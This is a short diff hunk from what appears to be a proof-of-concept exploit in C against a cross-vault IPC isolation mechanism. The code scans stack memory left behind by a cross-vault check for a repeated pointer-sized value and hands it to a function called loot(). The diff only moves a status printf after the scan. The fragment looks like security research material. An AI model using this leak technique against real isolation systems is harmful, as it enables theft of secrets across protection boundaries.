@@ -25,10 +25,10 @@ int main(void) {
   uint64_t low = sp - 4096;
   dipc_cap_write(0, low, 4096);
   struct ret r = __dipc_cross_vault_check(low, 8);
-  printf("check: %s\n", dipc_status_text((dipc_status)r.status));
   for (uint64_t p = low; p < sp - 8; p += 8)
     if (peek(p) == peek(p + 8) && peek(p) > 0xffffffffffff)
       value = peek(p);
+  printf("check: %s\n", dipc_status_text((dipc_status)r.status));
   if (value)
     loot(value);
   printf("looked\n");
